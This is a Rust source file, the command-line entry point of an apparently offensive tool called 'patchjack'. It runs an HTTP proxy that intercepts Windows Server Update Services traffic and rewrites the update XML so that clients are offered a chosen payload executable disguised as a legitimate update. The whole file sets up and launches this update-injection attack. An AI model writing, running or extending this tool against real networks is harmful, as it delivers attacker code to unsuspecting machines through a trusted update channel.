use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use clap::Parser;
use tracing_subscriber::layer::SubscriberExt;
use tracing_subscriber::util::SubscriberInitExt;

use patchjack::{
  FakeUpdate, ModifierChain, PayloadRegistry, ProxyServer, Result, TemplateSet, WsusXmlModifier,
};

#[derive(Parser, Debug)]
#[command(name = "patchjack", version, about = "WSUS update-injecting HTTP proxy")]
struct Cli {
  /// Payload to offer, by its section name in the registry
  payload_name: String,
  /// Port to listen on
  #[arg(default_value_t = 8080)]
  port: u16,
  /// Path to the payload registry
  #[arg(long, default_value = "payloads/payloads.ini")]
  payloads: PathBuf,
  /// Directory holding the XML fragment templates
  #[arg(long, default_value = "templates")]
  templates: PathBuf,
}

fn build(cli: &Cli) -> Result<ProxyServer> {
  let registry = PayloadRegistry::load(&cli.payloads)?;
  let spec = match registry.payload(&cli.payload_name) {
    Ok(spec) => spec,
    Err(e) => {
      if !registry.names().is_empty() {
        tracing::error!("available payloads: {}", registry.names().join(", "));
      }
      return Err(e);
    }
  };
  // payload executables live next to the registry file
  let payload_dir = cli.payloads.parent().unwrap_or_else(|| Path::new(""));
  let update = FakeUpdate::new(payload_dir, &spec)?;
  tracing::info!(
    "offering {:?} as {:?}, served from {}",
    spec.payload(),
    spec.title(),
    update.download_path()
  );
  let templates = TemplateSet::load(&cli.templates)?;
  let wsus = WsusXmlModifier::new(update, templates)?;
  Ok(ProxyServer::new(ModifierChain::new(vec![Arc::new(wsus)])))
}

#[tokio::main]
async fn main() {
  let cli = Cli::parse();
  tracing_subscriber::registry()
    .with(
      tracing_subscriber::EnvFilter::try_from_default_env()
        .unwrap_or_else(|_| "patchjack=info".into()),
    )
    .with(tracing_subscriber::fmt::layer())
    .init();
  let server = match build(&cli) {
    Ok(server) => server,
    Err(e) => {
      tracing::error!("{}", e);
      std::process::exit(1);
    }
  };
  let addr = SocketAddr::from(([0, 0, 0, 0], cli.port));
  if let Err(e) = server.run(addr).await {
    tracing::error!("{}", e);
    std::process::exit(1);
  }
}
